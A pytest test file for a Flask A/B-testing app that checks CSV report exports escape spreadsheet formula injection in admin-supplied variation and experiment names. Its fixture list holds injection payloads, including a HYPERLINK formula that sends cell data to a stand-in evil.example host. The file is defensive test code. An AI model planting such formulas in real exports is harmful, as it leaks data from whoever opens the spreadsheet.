"""CSV reports never carry a spreadsheet formula from an admin-supplied name."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from abflask import analysis
from abflask.analysis.csvfile import spreadsheet_safe, spreadsheet_text
from tests.helpers import Admin

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+1", "-2"]
"""Variation names a spreadsheet would run (or read as numbers)."""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil(client: FlaskClient, admin: Admin) -> None:
    """Experiment ``-exp`` with formula-like variation names and negative values."""
    admin.experiment("-exp", variations=EVIL, metrics=["buy"])
    for i in range(200):
        client.get(f"/process_user?user_id=u{i}&experiment=-exp")
        client.post("/track", json={"user_id": f"u{i}", "event": "buy", "value": -1.5})


def rows(path: Path) -> list[list[str]]:
    with path.open(newline="") as fh:
        return list(csv.reader(fh))


def cells(path: Path) -> list[str]:
    return [cell for row in rows(path)[1:] for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "cell",
    [*EVIL, "\tx", "\rx", "'=x", "'plain", "plain", "", "-"],
)
def test_escaping_reverses(cell: str) -> None:
    escaped = spreadsheet_safe(cell)
    assert isinstance(escaped, str)
    assert not escaped.startswith(TRIGGERS)
    assert spreadsheet_text(escaped) == cell


@pytest.mark.parametrize("number", [-2, -2.5, 0, 1e-9, float("-inf")])
def test_numbers_are_never_escaped(number: float) -> None:
    assert spreadsheet_safe(number) == number


def test_reports_hold_no_formula(
    env: Path, evil: None, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: '=HYPERLINK(...)', '@SUM(1+1)' and '-exp' were live cells."""
    assert analysis.main(["--csv", str(env / "csv")]) == 0
    export = env / "export.csv"
    assert analysis.main(["--experiment=-exp", "--export", str(export)]) == 0
    for path in (env / "csv" / "summary.csv", env / "csv" / "timeseries.csv", export):
        found = cells(path)
        formulas = [c for c in found if c.startswith(TRIGGERS) and not is_number(c)]
        assert formulas == [], path.name
        assert "'" + EVIL[0] in found, path.name
        assert "'+1" in found and "'-2" in found, path.name  # names, not numbers
    head, *body = rows(env / "csv" / "summary.csv")
    summary = [dict(zip(head, row, strict=True)) for row in body]
    assert {row["experiment"] for row in summary} == {"'-exp"}
    assert {row["mean"] for row in summary} == {"-1.5"}  # numbers stay numbers
    assert sum(c == "-1.5" for c in cells(export)) == 200


def test_escaped_export_reads_back_the_same(
    env: Path, evil: None, capsys: pytest.CaptureFixture[str]
) -> None:
    assert analysis.main(["--experiment=-exp", "--format", "json"]) == 0
    [from_redis] = json.loads(capsys.readouterr().out)["experiments"]
    export = env / "export.csv"
    assert analysis.main(["--experiment=-exp", "--export", str(export)]) == 0
    argv = ["--input", str(export), "--experiment=-exp", "--metrics", "buy"]
    assert analysis.main([*argv, "--format", "json"]) == 0
    [from_csv] = json.loads(capsys.readouterr().out)["experiments"]
    assert from_csv["participants"] == from_redis["participants"]
    assert set(from_csv["participants"]) == set(EVIL)
